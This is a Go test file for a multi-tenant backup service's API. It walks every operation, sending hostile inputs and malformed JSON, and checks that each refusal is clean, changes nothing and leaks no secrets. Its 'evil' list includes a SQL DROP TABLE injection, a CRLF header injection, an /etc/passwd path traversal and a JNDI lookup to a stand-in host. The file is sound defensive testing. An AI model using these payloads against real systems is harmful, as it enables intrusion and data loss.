package api_test

import (
	"database/sql"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"maps"
	"math"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"go.uber.org/zap"

	"github.com/tenantry/tenantry/internal/api"
	"github.com/tenantry/tenantry/internal/catalog"
	"github.com/tenantry/tenantry/internal/tenantry"
)

// bodies are valid ones, by operation.
func bodies() map[string]map[string]any {
	return map[string]map[string]any{
		"add-tenant":           {"name": "A", "directory": "a.example.com", "application_name": "B", "sync_hours": 24, "pool": "main", "seats": "automatic"},
		"change-tenant":        {"name": "A", "weight": 20, "application_name": "B", "sync_hours": 24, "pool": "main", "seats": "automatic"},
		"enable-workload":      {"trusted": true},
		"preview-policy":       planBody(),
		"add-policy":           planBody(),
		"change-policy":        planBody(),
		"activate-policy":      {"resources": []string{string(bob)}},
		"set-licensing":        {"mode": "automatic", "take": []string{"user"}, "soft_quota": 1, "hard_quota": 3},
		"set-planning":         {"time_zone": "Europe/Vienna", "open_schedules": false},
		"assign-seats":         {"resources": []string{string(bob)}},
		"revoke-seats":         {"resources": []string{string(bob)}},
		"set-retention":        {"last": 1},
		"set-hold":             {"reason": "case 7"},
		"set-notices":          {"to": []string{"ada@contoso.com"}, "report": "daily"},
		"set-policy-notices":   {"to": []string{"ada@contoso.com"}},
		"set-fleet-notices":    {"to": []string{"boss@provider.example"}, "problems": true},
		"add-token":            {"name": "ada", "role": "auditor"},
		"start-run":            {"resources": []string{string(bob)}},
		"preview-restore":      {"resource": string(ada), "workload": "mailbox", "snapshot": 7, "items": []string{"i1"}, "folder": "Restored"},
		"start-restore":        {"resource": ada, "workload": "mailbox", "snapshot": 7},
		"start-export":         {"resource": ada, "workload": "mailbox", "snapshot": 7},
		"start-search":         {"text": "invoice"},
		"start-verification":   {"resource": ada, "workload": "mailbox", "snapshot": 7},
		"start-consent":        {"purpose": "backup"},
		"add-pool":             {"name": "munich"},
		"set-pool":             {"pool": "main"},
		"add-enrolment":        {"hours": 24},
		"start-registration":   {"name": "Backup"},
		"add-credential":       {"kind": "federated", "client_id": contosoGUID, "label": "L"},
		"add-fleet-credential": {"kind": "secret", "client_id": contosoGUID, "secret": "S"},
	}
}

// evil is what callers with bad intent, or bad programs, send.
var evil = []any{
	`'; DROP TABLE tenants; --`, `" OR ?0 = "%s`, "a\r\nX-Evil: 1", "\x00", "../../../etc/passwd",
	"<script>${jndi:ldap://evil.example/a}</script>", "\xff\u202e", strings.Repeat("A", 20_000),
	nil, -1e300, []any{}, map[string]any{"$ne": nil}, deep(500),
}

func deep(n int) any {
	var v any = "x"
	for range n {
		v = []any{v}
	}
	return v
}

// literal is JSON as it is written: what encoding/json would not write.
func literal(text string) json.RawMessage { return json.RawMessage(text) }

// extremes are values at and behind the end of what a type holds, by the type in the schema.
var extremes = map[string][]any{
	"integer": {int64(math.MaxInt64), int64(math.MinInt64), -1, literal("9223372036854775808"), literal("1" + strings.Repeat("0", 4000)), literal("1e309"), 1.5, literal("1e2"), literal("-0"), "1"},
	"number":  {literal("1e309"), literal("-1e309"), -1, math.MaxFloat64, math.SmallestNonzeroFloat64, literal("1" + strings.Repeat("0", 4000))},
	"string": {
		"\x00", literal(`"\ud800"`), literal("\"a\xff\xfeb\""), strings.Repeat("\u00e9", 1_999), strings.Repeat("A", 70_000), "", "a\x1b[31mb",
	},
	"date-time": {"10000-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "0000-00-00T00:00:00Z", "0001-01-01T00:00:00Z", "+12026-01-01", "-1e309", nil},
	"array":     {same(20_000, "x"), same(3, "x"), []any{nil}, []any{[]any{}}, []any{map[string]any{"a": 1}}, "x", nil},
	"object":    {[]any{}, "x", map[string]any{"\x00": 1}, map[string]any{strings.Repeat("n", 5_000): 1}, nil},
	"boolean":   {"true", 1, nil},
}

func same(n int, v any) []any {
	all := make([]any, n)
	for i := range all {
		all[i] = v
	}
	return all
}

// texts are extremes of parameters.
var texts = []string{
	"9223372036854775807", "9223372036854775808", "-9223372036854775809", "-1", "0", "1e309", "NaN", "10000-01-01T00:00:00Z", "0000-00-00", "2026-02-30",
	"eyJhIjoxfQ", "AAAAAAAAAAAA", "W/\"", `"`, "*", "\ud7ff\u00e9", "%00", "..", ".", "\xc3",
}

// broken are whole bodies.
var broken = []string{
	"{", "[]", `"x"`, `{"a":` + strings.Repeat("[", 100_000), strings.Repeat(" ", 2<<20), `{"name":"a","name":"b","unknown":1}`, "\xff",
	"null", "1", "{} {}", "\ufeff{}", "{\x00\"\x00a\x00", "[" + strings.Repeat("1,", 400_000) + "1]", `{"resources":[` + strings.Repeat(`"a",`, 100_000) + `"a"]}`, `{"` + strings.Repeat(`a":1,"`, 10_000) + `b":1}`,
}

// schema is as much of JSON Schema as the document uses.
type schema struct {
	Ref        string            `json:"$ref"`
	Type       any               `json:"type"` // a name, or names, one of which is null
	Properties map[string]schema `json:"properties"`
	Items      *schema           `json:"items"`
	Format     string            `json:"format"`
}

func (s schema) kind() string {
	if s.Format == "date-time" {
		return s.Format
	}
	if names, several := s.Type.([]any); several {
		for _, name := range names {
			if name != "null" {
				return name.(string)
			}
		}
	}
	name, _ := s.Type.(string)
	return name
}

// place is a value somewhere in a body: names, and "0" for an entry of a list.
type place struct {
	at   []string
	kind string
}

// places walks a schema.
func (s schema) places(of func(schema) schema, at []string) (all []place) {
	s = of(s)
	if len(at) > 0 && s.kind() != "" {
		all = append(all, place{at, s.kind()})
	}
	if len(at) > 5 {
		return all
	}
	for _, name := range slices.Sorted(maps.Keys(s.Properties)) {
		all = append(all, s.Properties[name].places(of, append(slices.Clone(at), name))...)
	}
	if s.Items != nil {
		all = append(all, s.Items.places(of, append(slices.Clone(at), "0"))...)
	}
	return all
}

// with returns a body with one value at a place, and what is needed around it.
func with(body any, at []string, value any) any {
	if len(at) == 0 {
		return value
	}
	if at[0] == "0" {
		return []any{with(nil, at[1:], value)}
	}
	object := map[string]any{}
	if is, ok := body.(map[string]any); ok {
		maps.Copy(object, is)
	}
	object[at[0]] = with(object[at[0]], at[1:], value)
	return object
}

type described struct {
	operation
	params []struct{ Name, In string }
	fields []string // of the body
	places []place  // in it
}

// described is every operation with its parameters and the fields of its body.
func describedOperations(t *testing.T) []described {
	t.Helper()
	doc, err := api.OpenAPI()
	must(t, err)
	var spec struct {
		Paths map[string]map[string]struct {
			OperationID string                      `json:"operationId"`
			Parameters  []struct{ Name, In string } `json:"parameters"`
			RequestBody struct {
				Content map[string]struct{ Schema schema } `json:"content"`
			} `json:"requestBody"`
		} `json:"paths"`
		Components struct{ Schemas map[string]schema } `json:"components"`
	}
	must(t, json.Unmarshal(doc, &spec))
	var all []described
	for path, methods := range spec.Paths {
		for method, op := range methods {
			d := described{operation: operation{op.OperationID, strings.ToUpper(method), path}, params: op.Parameters}
			body := op.RequestBody.Content["application/json"].Schema
			if body.Ref != "" {
				body = spec.Components.Schemas[body.Ref[strings.LastIndex(body.Ref, "/")+1:]]
			}
			d.fields = slices.Sorted(maps.Keys(body.Properties))
			d.places = body.places(func(s schema) schema {
				if s.Ref != "" {
					return spec.Components.Schemas[s.Ref[strings.LastIndex(s.Ref, "/")+1:]]
				}
				return s
			}, nil)
			all = append(all, d)
		}
	}
	slices.SortFunc(all, func(a, b described) int { return strings.Compare(a.id, b.id) })
	return all
}

// walkers are how many houses the walk is shared out to: what is refused must change nothing, so that each asks one thing
// at a time.
const walkers = 4

// The walk: every parameter and every field of every operation gets everything evil. A
// refusal has a stable kind and changes nothing, nothing fails on our side, and nothing
// secret is logged.
func TestInjectionWalk(t *testing.T) {
	t.Parallel()
	var shares [walkers][]described
	nested := map[string]bool{} // walked already: operations share what they nest
	for i, op := range describedOperations(t) {
		op.places = slices.DeleteFunc(op.places, func(p place) bool {
			at := strings.Join(p.at, ".") + " " + p.kind
			walked := len(p.at) > 1 && nested[at]
			nested[at] = true
			return walked
		})
		shares[i%walkers] = append(shares[i%walkers], op)
	}
	var calls, refused atomic.Int64
	t.Run("operations", func(t *testing.T) {
		for i, share := range shares {
			t.Run(strconv.Itoa(i), func(t *testing.T) {
				t.Parallel()
				w := newInjector(t)
				for _, op := range share {
					w.walk(op)
				}
				w.silent()
				calls.Add(w.calls)
				refused.Add(w.refused)
			})
		}
	})
	if calls.Load() < 1200 || refused.Load() < 800 {
		t.Errorf("%d calls, %d refused: the walk is shorter than it should be", calls.Load(), refused.Load())
	}
}

// injector sends what is evil to a house of its own.
type injector struct {
	*house
	id             tenantry.TenantID
	watched        *watch
	calls, refused int64
}

func newInjector(t *testing.T) *injector {
	t.Helper()
	h := newHouse(t, func(c *api.Config) { c.Gateway = &door{} })
	h.browser.items = []api.BrowseItem{{ID: "i1", Kind: "message", Name: "Hello"}}
	id := h.addConnected("Contoso", contosoGUID)
	h.seal(id, catalog.Problem{ItemID: "m1", Name: "A mail", Reason: "ErrorItemCorrupt"})
	return &injector{house: h, id: id, watched: h.watch()}
}

// ask sends one request, and holds what comes back.
func (w *injector) ask(op described, where, path string, body any, headers ...http.Header) {
	t, h := w.t, w.house
	t.Helper()
	if s, ok := body.(string); !ok || s == "" {
		text, err := json.Marshal(body)
		must(t, err)
		body = string(text)
	}
	if body == "null" {
		body = nil
	}
	before := w.watched.contents()
	r := h.request(op.method, path, body)
	for _, header := range headers {
		maps.Copy(r.Header, header)
	}
	r.Header.Set("Authorization", "Bearer "+h.token)
	got := h.send(r)
	w.calls++
	if len(got.body) > 64<<10 && got.status >= 400 {
		t.Errorf("%s: %s: a refusal of %d bytes", op.id, where, len(got.body))
	}
	told := fmt.Sprintf("%s: %s: %d %.200s", op.id, where, got.status, got.body)
	if got.status >= 500 || got.header.Get("X-Evil") != "" {
		t.Errorf("%s", told)
	}
	if got.status < 400 {
		return
	}
	w.refused++
	// net/http itself answers a path that is no path.
	if got.header.Get("Content-Type") != "application/problem+json" || got.text("kind") == "" || got.text("code") == "" {
		t.Errorf("%s: not a problem with a kind and a code", told)
	}
	for _, inside := range []string{"sqlite", "sql:", "syntax error", "goroutine", "/internal/"} {
		if strings.Contains(strings.ToLower(string(got.body)), inside) {
			t.Errorf("%s: shows %q", told, inside)
		}
	}
	if after := w.watched.contents(); after != before {
		t.Errorf("%s: refused, and yet something changed", told)
	}
}

// walk sends everything evil to one operation.
func (w *injector) walk(op described) {
	w.t.Helper()
	valid := bodies()[op.id]
	for _, e := range evil {
		text, isText := e.(string)
		if !isText {
			text = fmt.Sprint(e)
		}
		for _, p := range op.params {
			if len(text) > 10_000 {
				continue // longer than a request line may be: net/http refuses it
			}
			where := fmt.Sprintf("%s %s = %.40q", p.In, p.Name, text)
			switch p.In {
			case "path":
				if escaped := url.PathEscape(text); escaped != "" && text != "../../../etc/passwd" {
					w.ask(op, where, op.filledBut(p.Name, escaped, w.id), valid)
				}
			case "query":
				w.ask(op, where, op.filled(w.id)+"?"+url.Values{p.Name: {text}}.Encode(), valid)
			}
		}
		for _, field := range op.fields {
			body := maps.Clone(valid)
			if body == nil {
				body = map[string]any{}
			}
			body[field] = e
			w.ask(op, fmt.Sprintf("body %s = %.40q", field, text), op.filled(w.id), body)
		}
	}
	for _, p := range op.params {
		for _, text := range texts {
			where := fmt.Sprintf("%s %s = %.40q", p.In, p.Name, text)
			switch p.In {
			case "path":
				if p.Name != "tenant" && text != "." && text != ".." { // one gate for all of them; net/http itself goes elsewhere
					w.ask(op, where, op.filledBut(p.Name, url.PathEscape(text), w.id), valid)
				}
			case "query":
				w.ask(op, where, op.filled(w.id)+"?"+url.Values{p.Name: {text}}.Encode(), valid)
			case "header":
				w.ask(op, where, op.filled(w.id), valid, http.Header{p.Name: {text}})
			}
		}
	}
	for _, p := range op.places {
		for _, value := range extremes[p.kind] {
			w.ask(op, fmt.Sprintf("body %s = %.40q", strings.Join(p.at, "."), fmt.Sprint(value)), op.filled(w.id), with(valid, p.at, value))
		}
	}
	if op.fields != nil {
		for _, body := range broken {
			w.ask(op, fmt.Sprintf("body %.20q", body), op.filled(w.id), body)
		}
	}
}

// silent checks that the log has neither our mistakes nor secrets.
func (w *injector) silent() {
	w.t.Helper()
	for _, e := range w.logs.All() {
		if e.Level >= zap.ErrorLevel {
			w.t.Errorf("logged: %s %v", e.Message, e.ContextMap())
		}
		if text := fmt.Sprint(e.Message, e.ContextMap()); strings.Contains(text, w.token) || strings.Contains(text, "tenantry_") {
			w.t.Errorf("a token in the log: %s", text)
		}
	}
}

// filledBut is filled with one parameter as given.
func (o operation) filledBut(name, value string, tenant tenantry.TenantID) string {
	before, after, _ := strings.Cut(o.path, "{"+name+"}")
	rest := operation{path: before + "\x01" + after}
	return strings.Replace(rest.filled(tenant), "\x01", value, 1)
}

// Wrong content types are refused, whatever is in the body.
func TestContentTypes(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	for _, kind := range []string{"text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "nonsense"} {
		r := h.request("POST", "/v1/tenants", `{"name":"A","directory":"a.example.com"}`)
		r.Header.Set("Authorization", "Bearer "+h.token)
		r.Header.Set("Content-Type", kind)
		if got := h.send(r); got.status != http.StatusUnsupportedMediaType || got.text("kind") != "invalid" {
			t.Errorf("%s: %d %s", kind, got.status, got.body)
		}
	}
}

// watch tells whether any table but the audit log changes.
type watch struct {
	h       *house
	version *sql.Stmt
	writes  *sql.Stmt
	tables  []watchedTable
	last    int64
	digest  uint64
}

// watchedTable is a table, how often it was written to, and what was in it then.
type watchedTable struct {
	name   string
	rows   *sql.Stmt
	writes int64
	digest uint64
}

// watch has triggers count the writes to every table, so that only those are read again that were written to.
func (h *house) watch() *watch {
	h.t.Helper()
	db, err := sql.Open("sqlite", "file:"+h.file+"?_pragma=busy_timeout(60000)")
	must(h.t, err)
	db.SetMaxOpenConns(1) // data_version is of one connection
	h.t.Cleanup(func() { _ = db.Close() })
	w := &watch{h: h, last: -1}
	do := func(statement string) {
		_, err := db.ExecContext(h.t.Context(), statement)
		must(h.t, err)
	}
	prepare := func(query string) *sql.Stmt {
		statement, err := db.PrepareContext(h.t.Context(), query)
		must(h.t, err)
		return statement
	}
	names := w.list(prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT IN ('audit', 'sqlite_sequence', 'watched') ORDER BY name"))
	do("CREATE TABLE IF NOT EXISTS watched (name text PRIMARY KEY, writes integer NOT NULL)")
	for _, row := range names {
		name := row[0].(string)
		do("INSERT INTO watched VALUES ('" + name + "', 0) ON CONFLICT DO NOTHING")
		for _, event := range []string{"INSERT", "UPDATE", "DELETE"} {
			do("CREATE TRIGGER IF NOT EXISTS watched_" + event + "_" + name + " AFTER " + event + " ON " + name +
				" BEGIN UPDATE watched SET writes = writes + 1 WHERE name = '" + name + "'; END")
		}
		w.tables = append(w.tables, watchedTable{name: name, writes: -1})
	}
	w.version, w.writes = prepare("PRAGMA data_version"), prepare("SELECT writes FROM watched ORDER BY name")
	for i := range w.tables {
		w.tables[i].rows = prepare("SELECT * FROM " + w.tables[i].name)
	}
	return w
}

// contents is a digest of the tables; what somebody has written to is read anew.
func (w *watch) contents() uint64 {
	w.h.t.Helper()
	var version int64
	must(w.h.t, w.version.QueryRowContext(w.h.t.Context()).Scan(&version))
	if version == w.last {
		return w.digest
	}
	writes := w.list(w.writes)
	if len(writes) != len(w.tables) {
		w.h.t.Fatalf("%d tables are counted, of %d", len(writes), len(w.tables))
	}
	whole := fnv.New64a()
	for i := range w.tables {
		table := &w.tables[i]
		if n := writes[i][0].(int64); n != table.writes {
			digest := fnv.New64a()
			for _, row := range w.list(table.rows) {
				fmt.Fprintln(digest, row)
			}
			table.writes, table.digest = n, digest.Sum64()
		}
		fmt.Fprintln(whole, i, table.digest)
	}
	w.last, w.digest = version, whole.Sum64()
	return w.digest
}

// The walk would see any change: of each table, by each statement, made by another connection.
func TestWatchSeesChanges(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	w := h.watch()
	last := w.contents()
	if w.contents() != last {
		t.Error("contents differ without a change")
	}
	id := h.addTenant("Contoso", contosoGUID)
	for _, change := range []func(){
		func() { h.want(http.StatusOK, "PATCH", "/v1/tenants/"+string(id), map[string]any{"weight": 20}) },
		func() { h.want(http.StatusCreated, "POST", "/v1/pools", map[string]any{"name": "perth"}) },
		func() { h.want(http.StatusNoContent, "DELETE", "/v1/pools/perth", nil) },
	} {
		change()
		if now := w.contents(); now == last {
			t.Error("a change is not seen")
		} else {
			last = now
		}
	}
	h.want(http.StatusNotFound, "DELETE", "/v1/pools/perth", nil) // which the audit log alone keeps
	if w.contents() != last {
		t.Error("the audit log counts as a change")
	}
}

func (w *watch) list(query *sql.Stmt) (all [][]any) {
	w.h.t.Helper()
	rows, err := query.QueryContext(w.h.t.Context())
	must(w.h.t, err)
	defer func() { _ = rows.Close() }()
	columns, err := rows.Columns()
	must(w.h.t, err)
	for rows.Next() {
		values, at := make([]any, len(columns)), make([]any, len(columns))
		for i := range values {
			at[i] = &values[i]
		}
		must(w.h.t, rows.Scan(at...))
		all = append(all, values)
	}
	must(w.h.t, rows.Err())
	return all
}
